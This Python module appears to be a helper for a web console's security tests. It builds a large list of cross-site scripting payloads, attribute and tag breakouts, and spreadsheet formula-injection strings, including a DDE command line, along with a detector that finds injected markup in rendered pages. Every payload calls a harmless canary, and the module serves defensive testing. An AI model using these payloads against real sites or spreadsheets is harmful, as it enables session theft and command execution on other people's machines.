"""What somebody would send to have it run in an operator's browser, and what looks for
traces of it in a page.

Every payload is harmless but for a call of the canary: an element, an attribute or a
scheme that is not the console's own tells that text has become markup. ``strange``
finds those, whatever the page; that it sees each payload is tested, too.
"""

from __future__ import annotations

import gzip
import json
import re
import zlib
from collections.abc import Iterable, Iterator
from urllib.parse import urlencode, urlsplit
from xml.sax.saxutils import escape, quoteattr

from selectolax.lexbor import LexborHTMLParser, LexborNode

CANARY = "zqxcanary"
RUN = f"{CANARY}(1)"
DECLARED = ("html", "head", "body")  # which a parser adds, and merges attributes into

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=//zqxcanary.test/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<IMG SRC=`x` ONERROR={RUN}>",
    f"<<img src=x onerror={RUN}//<",
    f"<img src=x:x onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><mi href='javascript:{RUN}'>x</mi></math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    "<base href='//zqxcanary.test/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href='//zqxcanary.test/x.css'>",
    "<style>@import '//zqxcanary.test/x.css';</style>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<dialog open onclose={RUN}></dialog>",
    f"<div hx-get=/ hx-trigger=load hx-on:load={RUN}>x</div>",
    "<div ws-connect='//zqxcanary.test/'>x</div>",
    "<div style='background:url(//zqxcanary.test/)'>x</div>",
    f"<p id={CANARY} onpointerover={RUN}>x</p>",
    f"<{CANARY} tabindex=1 onfocus={RUN}>x</{CANARY}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<form id={CANARY}><input name=attributes></form>",
]
OUT_OF_ATTRIBUTES = [
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus={RUN} x="',
    f" onmouseover={RUN} x=",
    f'" {CANARY}="1',
    f"`><script>{RUN}</script>",
    f'\\"><script>{RUN}</script>',
]
OUT_OF_TEXT = [
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"</bdi></td></tr></table><script>{RUN}</script>",
    f"</pre></code><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
]
SCHEMES = [
    f"javascript:{RUN}//",
    f"JaVaScRiPt:{RUN}//",
    f" javascript:{RUN}//",
    f"javascript://%0a{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{CANARY}",
    "//zqxcanary.test/",
]
AS_THEY_ARE = [*ELEMENTS, *OUT_OF_ATTRIBUTES, *OUT_OF_TEXT, *SCHEMES]
FORMULAS = [
    f'=HYPERLINK("//zqxcanary.test/", "{CANARY}")',
    f"+{CANARY}|' /C calc'!A0",
    f"-{CANARY}+cmd|' /C calc'!A0",
    f"@SUM({CANARY})",
]
HARMLESS_AS_THEY_ARE = [  # until somebody decodes them, or takes them for a program
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"{{{{ {RUN} }}}}{{% include '{CANARY}' %}}",
    f"${{{RUN}}}#{{{RUN}}}",
    *FORMULAS,
]
PAYLOADS = [*AS_THEY_ARE, *HARMLESS_AS_THEY_ARE]
# All payloads in fewer texts. Those come first that only work at the beginning.
HEADS = [*SCHEMES, *OUT_OF_ATTRIBUTES, *OUT_OF_TEXT, *FORMULAS]
OTHERS = [one for one in PAYLOADS if one not in HEADS]
TEXTS = [
    "\n".join([head, *OTHERS[number :: len(HEADS)]])
    for number, head in enumerate(HEADS)
]
WHOLE = "\n".join(PAYLOADS)
CONTEXTS = [
    "<p>{}</p>",
    '<p title="{}">x</p>',
    "<p title='{}'>x</p>",
    "<p title={}>x</p>",
    '<a href="{}">x</a>',
    "<title>{}</title>",
    "<textarea>{}</textarea>",
    "<select><option>{}</option></select>",
    "<script>var x = '{}';</script>",
    "<style>{}</style>",
    "<!-- {} -->",
    "<pre><code>{}</code></pre>",
]

EVIL = ELEMENTS[4]  # where there is one text only, and it may be short

# Elements that no page of the console has, but for the nodes of the topology.
FORBIDDEN = {
    *("iframe", "frame", "object", "embed", "applet", "base", "marquee", "math"),
    *("audio", "video", "source", "track", "animate", "set", "foreignobject"),
    *("style", "noembed", "xmp", "plaintext", "portal", "image", "canvas"),
}
ADDRESSES = {
    *("href", "src", "action", "formaction", "xlink:href", "data", "poster", "cite"),
    *("background", "ping", "manifest", "longdesc", "srcset", "ws-connect"),
    *("hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete", "hx-push-url"),
}
PROGRAMS = re.compile(r"(javascript|vbscript|data|blob|file):", re.I)
BLANKS = re.compile(r"[\x00-\x20]+")


def bodies() -> Iterable[tuple[str, bytes]]:
    """All payloads, written as each kind of body writes texts."""
    yield "application/json", json.dumps({WHOLE: [WHOLE, {WHOLE: 1}]}).encode()
    inner = "".join(f"<v a={quoteattr(one)}>{escape(one)}</v>" for one in PAYLOADS)
    yield "application/xml", f"<r><!-- {escape(EVIL)} -->{inner}</r>".encode()
    yield "application/xml", WHOLE.encode()
    lines = "".join(f"\rZX{n % 10}|{one}" for n, one in enumerate(PAYLOADS))
    first = "MSH|^~\\&|a|b|c|d|2026||ADT^A01|1|P|2.5"
    yield "application/hl7-v2", (first + lines).encode()
    yield "text/html", WHOLE.encode()
    yield "application/octet-stream", b"\xff\xfe" + WHOLE.encode()
    yield "text/plain; charset=utf-16", WHOLE.encode("utf-16")
    pairs = {f"{n}{one}": one for n, one in enumerate(PAYLOADS)}
    yield "application/x-www-form-urlencoded", urlencode(pairs).encode()
    yield "application/gzip", gzip.compress(WHOLE.encode())
    yield "application/zlib", zlib.compress(json.dumps([WHOLE]).encode())


def strange(html: str) -> list[str]:
    """Whatever in a page is not of the console, or lets text of strangers do something.

    Args:
        html: of a page, or of a part of one.
    """
    return [trace for node in nodes(html) for trace in traces(node)]


def nodes(html: str) -> Iterator[LexborNode]:
    """Every node, also those in templates."""
    root = LexborHTMLParser(html).root
    assert root is not None
    for node in root.traverse(include_text=True):
        yield node
        if node.tag == "template":
            yield from nodes(str(node.html).partition(">")[2].rpartition("</")[0])


def traces(node: LexborNode) -> Iterator[str]:
    tag = str(node.tag).lower()
    if tag == "-comment" and CANARY in (node.comment_content or ""):
        yield f"a comment: {node.comment_content}"
    if not tag.startswith("-"):
        yield from traces_of_element(tag, node)
        for name, value in node.attributes.items():
            yield from traces_of_attribute(tag, name.lower(), value or "")


def traces_of_element(tag: str, node: LexborNode) -> Iterator[str]:
    if (tag in FORBIDDEN and not is_node_of_topology(node)) or CANARY in tag:
        yield f"<{tag}>"
    if tag in ("script", "style") and CANARY in node.text(deep=True):
        yield f"in <{tag}>: {node.text(deep=True)[:200]}"
    if tag == "meta" and "http-equiv" in node.attributes:
        yield "<meta http-equiv>"
    if tag == "link" and CANARY in (node.attributes.get("href") or ""):
        yield f"<link {node.attributes.get('href')}>"


def is_node_of_topology(node: LexborNode) -> bool:
    """Whether an element is the frame of a node in the picture of the topology, which
    has HTML inside an SVG: it is directly in the picture, and has only its place."""
    picture = node.parent
    return (
        str(node.tag).lower() == "foreignobject"
        and picture is not None
        and picture.attributes.get("class") == "topology"
        and set(node.attributes) == {"x", "y", "width", "height"}
    )


def traces_of_attribute(tag: str, name: str, value: str) -> Iterator[str]:
    where = f"<{tag} {name}={value[:200]!r}>"
    if name.startswith(("on", "hx-on", "data-hx-on")):
        yield f"a program: {where}"
    if CANARY in name or name in ("srcdoc", "style"):
        yield f"an attribute: {where}"
    if name in ("id", "class", "name", "for") and value.startswith(CANARY):
        yield f"a name: {where}"
    if name in ADDRESSES and leads_elsewhere(value):
        yield f"an address: {where}"


def leads_elsewhere(address: str) -> bool:
    """Whether an address is a program, or one that a stranger chose the host of.

    A link that a person wrote into a group of dead letters leads elsewhere on purpose:
    it has ``https`` before it.
    """
    bare = BLANKS.sub("", address)
    if PROGRAMS.match(bare) and not bare.startswith("data:image/"):
        return True
    said = urlsplit(bare) if not bare.startswith("http") else None
    return said is not None and (bool(said.netloc) or CANARY in said.scheme)


def words_in(html: str) -> Iterator[str]:
    """Whatever a person, or a program that reads aloud, finds in a page."""
    for node in nodes(html):
        if node.tag == "-text":
            yield node.text(deep=False)
        elif not str(node.tag).startswith("-"):
            yield from (value for value in node.attributes.values() if value)
